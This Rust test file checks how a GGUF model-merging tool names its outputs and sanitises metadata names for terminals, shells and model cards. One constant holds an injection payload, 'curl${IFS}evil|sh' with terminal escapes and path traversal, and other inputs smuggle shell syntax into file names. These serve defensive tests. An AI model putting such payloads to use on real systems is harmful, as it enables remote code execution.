//! What outputs are called: a merge is not called as its CP is, names that are typed mean the same in every verb, and
//! text from files is harmless where it becomes a name, a line on a terminal or a shell's command.

#[path = "support/run.rs"]
mod run;
mod support;

use ggraft_formats::error::is_obeyed;
use run::{Folder, Ran, ggraft, ggraft_in};
use serde_json::Value as Json;
use std::path::PathBuf;
use support::gguf::{TOYS, model};

struct Bench(Folder);

impl Bench {
    fn new() -> Bench {
        Bench(Folder::new())
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path(name)
    }

    fn run(&self, words: &str) -> Ran {
        ggraft(self.0.words(words))
    }

    /// The name of what this writes into an empty folder, without that folder.
    #[track_caller]
    fn written(&self, words: &str) -> String {
        let folder = tempfile::tempdir_in(self.path("")).unwrap();
        let ran = ggraft_in(folder.path(), self.0.words(words)).ok();
        let mut names = std::fs::read_dir(folder.path()).unwrap();
        let name = names.next().unwrap().unwrap().file_name().into_string().unwrap();
        assert!(names.next().is_none() && ran.out.trim_end() == name, "{name} {}", ran.out);
        name
    }
}

const MERGE: &str = "merge --base %base --chat %chat --onto %cp -q";

#[test]
fn a_merge_is_not_called_as_cp_is() {
    let bench = Bench::new();
    assert_eq!(bench.written(&format!("{MERGE} --type Q8_0")), "Cp-3.0M-chat-vector-Q8_0.gguf");
    assert_eq!(bench.written("convert %cp --type Q8_0 -q"), "Cp-3.0M-Q8_0.gguf");
    assert_eq!(
        bench.written(&format!("{MERGE} --type Q8_0 --method slerp --embeddings shared -w 0.5")),
        "Cp-3.0M-slerp-merge-Q8_0.gguf"
    );
    bench.run(&format!("{MERGE} --type Q8_0 -o @m.gguf")).ok();
    let metadata = model(&bench.path("m.gguf")).metadata;
    for (key, value) in [("name", "Cp Chat Vector"), ("basename", "Cp"), ("finetune", "chat-vector")] {
        assert_eq!(metadata.str(&format!("general.{key}")), Some(value));
    }
    // The keys say what is hashed: base and chat of the trio have the same header, and other weights.
    let hash = |i: u32| metadata.str(&format!("ggraft.source.{i}.header_sha256")).unwrap().to_string();
    assert!(hash(1) == hash(2) && metadata.get("ggraft.source.1.sha256").is_none());
}

#[test]
fn a_name_that_is_given_counts_in_every_verb() {
    let bench = Bench::new();
    let name = ["--name", "My 한국어 model"];
    let run = |words: &str| ggraft(bench.0.words(words).into_iter().chain(name.map(String::from))).ok();
    run(&format!("{MERGE} --type Q8_0 -o @merge.gguf"));
    run("convert %cp --type Q8_0 -q -o @convert.gguf");
    run("quantize @convert.gguf @quantize.gguf Q4_0 -q --allow-requantize");
    run("quantize @convert.gguf @copy.gguf COPY -q");
    run(&format!("{MERGE} --type Q8_0 -o @recipe.gguf --emit-recipe @r.yml"));
    bench.run("merge @r.yml -q").ok();
    for verb in ["merge", "convert", "quantize", "copy", "recipe"] {
        let metadata = model(&bench.path(&format!("{verb}.gguf"))).metadata;
        assert_eq!(metadata.str("general.name"), Some(name[1]), "{verb}");
        assert_eq!(metadata.str("general.finetune"), None, "{verb}");
    }
    assert_eq!(bench.written("convert %cp --type Q8_0 -q --model-name A-3.0M"), "A-3.0M-Q8_0.gguf");
    assert_eq!(ggraft(bench.0.words("convert %cp --type Q8_0 --name \u{1b}x")).code, 2);
}

#[test]
fn what_is_filled_in_is_the_same_in_every_verb() {
    let bench = Bench::new();
    bench.run("convert %cp --type F16 -q -o @in.gguf").ok();
    for (verb, name) in [
        (format!("{MERGE} --type Q8_0 -o"), "Cp-3.0M-chat-vector"),
        (String::from("convert %cp --type Q8_0 -q -o"), "Cp-3.0M"),
        (String::from("quantize -q @in.gguf OUT Q8_0"), "Cp-3.0M"),
    ] {
        let with = |typed: &str| match verb.contains("OUT") {
            true => verb.replace("OUT", typed),
            false => format!("{verb} {typed}"),
        };
        for (typed, written) in [
            ("o-{type}.gguf", String::from("o-Q8_0.gguf")),
            ("o-{ftype}", String::from("o-Q8_0.gguf")),
            ("{name}.{type}", format!("{name}.Q8_0.gguf")),
            ("v1.0", String::from("v1.0.gguf")),
            ("x.GGUF", String::from("x.GGUF")),
        ] {
            assert_eq!(bench.written(&with(typed)), written, "{verb}");
        }
        for typed in ["out.safetensors", "out.bin", "out.json"] {
            let ran = bench.run(&with(&format!("@{typed}")));
            assert!(ran.code == 2 && ran.err.contains("a name that ends in .gguf"), "{typed}: {}", ran.err);
        }
    }
    let ran = bench.run("convert %cp --type Q8_0 -o @o-{weight}.gguf");
    assert!(ran.code == 2 && ran.err.contains("there is no weight to put into the name"), "{}", ran.err);
    for typed in ["out.gguf", "out.safetensors"] {
        let ran = bench.run(&format!("convert %cp --type safetensors -o @{typed}"));
        assert!(ran.code == 2 && ran.err.contains("leave out the ending"), "{}", ran.err);
        assert!(!bench.path(typed).exists());
    }
}

const EVIL: &str = "x;curl${IFS}evil|sh;\u{1b}]0;owned\u{7}\u{202e}\n```\n/../../y";

/// A toy whose names are a stranger's.
fn evil(bench: &Bench) {
    let mut model = TOYS[1].model();
    for key in ["name", "basename", "finetune", "version", "size_label", "license"] {
        model.metadata.set(&format!("general.{key}"), EVIL);
    }
    let layout = ggraft_formats::gguf::plan(&model, &bench.path("evil.gguf")).unwrap();
    ggraft_formats::write::write(&[layout], &()).map(|_| ()).unwrap();
}

#[test]
fn a_default_name_is_harmless() {
    let bench = Bench::new();
    evil(&bench);
    let folder = bench.path("folder");
    std::fs::create_dir(&folder).unwrap();
    let words = "convert @evil.gguf --type Q8_0 --card --modelfile --report r.json";
    let ran = ggraft_in(&folder, bench.0.words(words)).ok();
    let plain = |text: &str| !text.contains(|c: char| is_obeyed(c) && c != '\n');
    assert!(plain(&ran.out) && plain(&ran.err), "{:?} {:?}", ran.out, ran.err);
    let name = ran.out.trim_end();
    assert!(folder.join(name).is_file(), "{name}");
    assert!(name.chars().all(|c| c.is_alphanumeric() || "._+-".contains(c)), "{name}");
    let card = std::fs::read_to_string(folder.join("README.md")).unwrap();
    assert!(plain(&card) && card.contains(&format!("\nllama-cli -m {name}\n")), "{card}");
    assert!(card.lines().filter(|line| line.starts_with("```")).count() == 4, "{card}");
}

/// What a user types is quoted for the shell that is going to read it.
#[test]
fn a_typed_name_is_quoted_in_hints_and_cards() {
    let bench = Bench::new();
    TOYS[1].write(&bench.path("in.gguf"));
    for (typed, quoted) in [
        ("a b;c$(d).gguf", "'a b;c$(d).gguf'"),
        ("it's.gguf", r"'it'\''s.gguf'"),
        ("-x.gguf", "./-x.gguf"),
        ("e\u{1b}[31m.gguf", r"$'e\x1b[31m.gguf'"),
    ] {
        let folder = tempfile::tempdir().unwrap();
        let input = bench.path("in.gguf").display().to_string();
        let output = format!("-o={typed}");
        let ran = ggraft_in(folder.path(), ["convert", &input, "--type", "Q8_0", "--card", &output]).ok();
        let line = format!("llama-cli -m {quoted}\n");
        assert!(ran.err.contains(&format!("run it: {line}")), "{typed}: {}", ran.err);
        assert!(!ran.out.contains('\u{1b}') && !ran.err.contains('\u{1b}'), "{:?} {:?}", ran.out, ran.err);
        let card = std::fs::read_to_string(folder.path().join("README.md")).unwrap();
        assert!(card.contains(&format!("\n{line}")), "{card}");
    }
}

#[test]
fn the_command_of_a_report_can_be_repeated() {
    let bench = Bench::new();
    let values = [r"blk\.0\.ffn_up=q4_0", "general.url=str:https://example.org/a/b"];
    let args = ["--tensor-type", values[0], "--override-kv", values[1], "--report"].map(String::from);
    let report = bench.path("r.json").display().to_string();
    let words = bench.0.words("convert %cp --type Q8_0 -q -o @o.gguf");
    ggraft(words.into_iter().chain(args).chain([report])).ok();
    let report: Json = serde_json::from_slice(&std::fs::read(bench.path("r.json")).unwrap()).unwrap();
    let command = report["command"].as_str().unwrap();
    assert_eq!(
        command,
        format!("ggraft convert cp --type Q8_0 --tensor-type '{}' --override-kv {}", values[0], values[1])
    );
}

/// A name that is not text is a name.
#[cfg(target_os = "linux")]
#[test]
fn a_name_that_is_not_text_is_kept() {
    use std::os::unix::ffi::OsStringExt;
    let bench = Bench::new();
    let output = bench.path("").join(std::ffi::OsString::from_vec(b"a\xff.gguf".to_vec()));
    let words = bench.0.words(&format!("{MERGE} --type Q8_0 -o"));
    let words = words.into_iter().map(std::ffi::OsString::from).chain([output.clone().into_os_string()]);
    ggraft(words).ok();
    assert!(output.is_file());
}
